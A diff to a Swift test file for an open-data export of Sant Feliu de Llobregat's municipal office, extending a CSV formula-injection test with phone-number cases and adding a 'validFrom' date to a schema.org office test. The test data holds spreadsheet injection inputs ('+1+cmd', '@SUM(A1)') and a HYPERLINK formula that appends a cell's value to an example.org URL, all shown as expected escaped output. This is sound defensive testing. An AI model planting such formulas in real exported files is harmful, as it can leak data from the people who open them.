@@ -91,11 +91,14 @@ final class OpenDataTests: XCTestCase {
         let rows = try readCSVWithPython(csv)
         XCTAssertEqual(rows.last, ["sant-feliu-de-llobregat", "08211", "local-retail-support",
                                    #"'=HYPERLINK("https://example.org/?d="&A2,"Suport")"#, "Apoyo", "local", "", "true"])
-        let table = CSVTable(header: ["cell"], rows: [["+1+cmd"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"], ["-2.5"], ["-12"], ["a=b"]])
+        // A telephone number is data as it is (session 38's trial); one with anything else is not.
+        let table = CSVTable(header: ["cell"], rows: [["+1+cmd"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"], ["-2.5"], ["-12"], ["a=b"],
+                                                       ["+34 935 000 202"], ["+34 (93) 500-02-02"], ["+"], ["+34 93 A1"]])
         let tableFile = fixture.root.appendingPathComponent("table.csv")
         try Data(table.text.utf8).write(to: tableFile)
         XCTAssertEqual(try readCSVWithPython(tableFile).map { $0[0] },
-                       ["cell", "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-2.5", "-12", "a=b"])
+                       ["cell", "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-2.5", "-12", "a=b",
+                        "+34 935 000 202", "+34 (93) 500-02-02", "'+", "'+34 93 A1"])
     }
 
     /// The reviewed CPSV-AP 3.2.0 export of Sant Feliu de Llobregat in the fixture network,
@@ -320,6 +323,8 @@ final class OpenDataTests: XCTestCase {
             + ["https://oae.example.org/data/catalogue.jsonld", "https://oae.example.org/ca/comparison.html"]))
     }
 
+    /// An office as schema.org describes it; its hours hold from its opening day
+    /// (`validFrom`: an office still to open was published as keeping them, session 38's trial).
     func testSchemaOrgOffice() throws {
         try fixture.write("seeds/sant-feliu-de-llobregat/office.yaml", """
             id: sant-feliu-de-llobregat
@@ -337,7 +342,7 @@ final class OpenDataTests: XCTestCase {
             agreements: [adhesion-sant-feliu]
             """)
         let office = try XCTUnwrap(fixture.export().office("sant-feliu-de-llobregat", language: "es"))
-        XCTAssertEqual(office.serialized(pretty: false), #"{"@context":"https://schema.org","@type":"GovernmentOffice","@id":"https://oae.example.org/id/sant-feliu-de-llobregat/office","name":"OAE de Sant Feliu de Llobregat","url":"https://sant-feliu.example.cat/oae","telephone":"+34 936 000 101","email":"oae@sant-feliu.example.cat","address":{"@type":"PostalAddress","streetAddress":"Carrer de Pi i Margall, 30","postalCode":"08980","addressLocality":"Sant Feliu de Llobregat","addressCountry":"ES"},"geo":{"@type":"GeoCoordinates","latitude":41.3826,"longitude":2.0441},"openingHoursSpecification":[{"@type":"OpeningHoursSpecification","dayOfWeek":["https://schema.org/Monday","https://schema.org/Tuesday","https://schema.org/Wednesday","https://schema.org/Thursday","https://schema.org/Friday"],"opens":"09:00","closes":"14:00"}],"areaServed":{"@type":"City","name":"Sant Feliu de Llobregat"},"identifier":{"@type":"PropertyValue","propertyID":"INE","value":"08211"}}"#)
+        XCTAssertEqual(office.serialized(pretty: false), #"{"@context":"https://schema.org","@type":"GovernmentOffice","@id":"https://oae.example.org/id/sant-feliu-de-llobregat/office","name":"OAE de Sant Feliu de Llobregat","url":"https://sant-feliu.example.cat/oae","telephone":"+34 936 000 101","email":"oae@sant-feliu.example.cat","address":{"@type":"PostalAddress","streetAddress":"Carrer de Pi i Margall, 30","postalCode":"08980","addressLocality":"Sant Feliu de Llobregat","addressCountry":"ES"},"geo":{"@type":"GeoCoordinates","latitude":41.3826,"longitude":2.0441},"openingHoursSpecification":[{"@type":"OpeningHoursSpecification","dayOfWeek":["https://schema.org/Monday","https://schema.org/Tuesday","https://schema.org/Wednesday","https://schema.org/Thursday","https://schema.org/Friday"],"opens":"09:00","closes":"14:00","validFrom":"2026-04-13"}],"areaServed":{"@type":"City","name":"Sant Feliu de Llobregat"},"identifier":{"@type":"PropertyValue","propertyID":"INE","value":"08211"}}"#)
     }
 
     func testSchemaOrgServices() throws {
